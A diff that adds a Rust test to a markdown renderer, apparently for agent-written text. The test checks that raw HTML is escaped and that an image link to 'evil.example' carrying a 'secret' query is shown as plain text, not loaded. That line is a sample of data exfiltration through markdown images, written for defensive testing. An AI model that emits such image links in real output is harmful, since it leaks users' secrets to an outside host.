@@ -117,6 +117,10 @@ mod tests {
             let drawn = markdown(text);
             assert!(!drawn.contains(absent), "{text}: {drawn}");
         }
+        // What is not drawn is read: nothing that an agent wrote is hidden from whoever looks.
+        let drawn = markdown("see <b>this</b> ![chart](https://evil.example/?secret)");
+        assert!(drawn.contains("&lt;b&gt;this&lt;/b&gt;"), "{drawn}");
+        assert!(drawn.contains("[https://evil.example/?secret] chart"), "{drawn}");
         let drawn = markdown("**bold** and `code`, [link](https://example.com)");
         assert!(drawn.contains("<strong>bold</strong>"), "{drawn}");
         assert!(drawn.contains("rel=\"noopener noreferrer nofollow\""), "{drawn}");
